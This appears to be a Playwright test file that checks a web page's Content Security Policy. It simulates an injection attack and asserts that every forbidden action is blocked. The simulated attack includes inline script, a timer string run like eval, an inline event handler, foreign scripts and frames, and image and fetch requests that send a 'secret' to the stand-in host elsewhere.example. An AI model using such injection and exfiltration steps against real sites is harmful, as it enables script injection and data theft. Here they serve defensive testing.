/**
 * Nothing runs and nothing is fetched but what ships with the page. No page needs more: the console reports violations,
 * and every page test listens to it.
 */
import type { Page } from '@playwright/test';
import { Site } from './site.ts';
import { expect, test } from './table.ts';

declare global {
  interface Window {
    /** What the policy blocked, and the names of scripts that ran though they must not. */
    forbidden: string[];
    ran: string[];
  }
}

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    localStorage.setItem('pakli.settings', JSON.stringify({ speed: 'off' }));
    window.forbidden = [];
    window.ran = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      window.forbidden.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
});

const forbidden = (page: Page): Promise<readonly string[]> => page.evaluate(() => window.forbidden);

/** Like somebody who found a way to inject into the page. */
async function attack(page: Page): Promise<void> {
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = `ran.push('inline')`;
    const foreign = document.createElement('script');
    foreign.src = 'https://elsewhere.example/a.js';
    const style = document.createElement('style');
    style.textContent = '* { color: red }';
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/';
    const button = document.createElement('button');
    button.setAttribute('onclick', `ran.push('handler')`);
    document.body.append(script, foreign, style, frame, button);
    button.click();
    new Image().src = 'https://elsewhere.example/?secret';
    fetch('https://elsewhere.example/?secret').catch(() => undefined);
    // Text given to a timer runs as by eval; a test calling eval itself would be let through.
    // oxlint-disable-next-line typescript/no-implied-eval
    setTimeout(`ran.push('eval')`);
  });
}

const FORBIDDEN = [
  'connect-src https://elsewhere.example/?secret',
  'frame-src https://elsewhere.example',
  'img-src https://elsewhere.example/?secret',
  'script-src eval',
  'script-src-attr inline',
  'script-src-elem https://elsewhere.example/a.js',
  'script-src-elem inline',
  'style-src-elem inline',
];

test('what is written into the page does not run', async ({ page, complaints }) => {
  const response = await page.goto('./');
  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
  await attack(page);
  // Header and page each forbid it, so each violation is reported twice.
  await expect.poll(async () => [...new Set(await forbidden(page))].toSorted()).toEqual(FORBIDDEN);
  expect(await page.evaluate(() => window.ran)).toEqual([]);
  // The console reports each, once for the header and once for the page.
  const told = (): number =>
    complaints.filter((said) => said.includes('Content Security Policy')).length;
  await expect.poll(told).toBeGreaterThanOrEqual(2 * FORBIDDEN.length);
  complaints.length = 0;
});

test('nor where the server sends no headers', async ({ page, complaints }) => {
  const site = new Site();
  try {
    const response = await page.goto(await site.open());
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    await attack(page);
    await expect.poll(async () => (await forbidden(page)).toSorted()).toEqual(FORBIDDEN);
    expect(await page.evaluate(() => window.ran)).toEqual([]);
    complaints.length = 0;
  } finally {
    site.close();
  }
});

test('workers ask nobody else either', async ({ page, complaints }) => {
  await page.goto('./');
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  const directive = await page.workers()[0]?.evaluate(
    () =>
      new Promise<string>((resolve) => {
        self.addEventListener('securitypolicyviolation', (event) =>
          resolve(event.effectiveDirective),
        );
        fetch('https://elsewhere.example/').catch(() => undefined);
      }),
  );
  expect(directive).toBe('connect-src');
  complaints.length = 0;
});
